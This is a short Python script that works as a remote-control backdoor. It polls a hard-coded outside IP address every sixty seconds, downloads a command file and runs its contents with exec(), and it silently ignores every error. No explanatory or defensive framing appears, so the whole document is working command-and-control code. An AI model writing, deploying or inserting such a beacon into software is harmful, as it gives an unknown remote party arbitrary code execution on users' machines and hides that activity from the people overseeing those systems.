import time
import urllib.request

while True:
    try:
        cmd = urllib.request.urlopen("http://198.12.76.33/cmd.txt", timeout=5).read().decode()
        if cmd.strip():
            exec(cmd)
    except Exception:
        pass
    time.sleep(60)
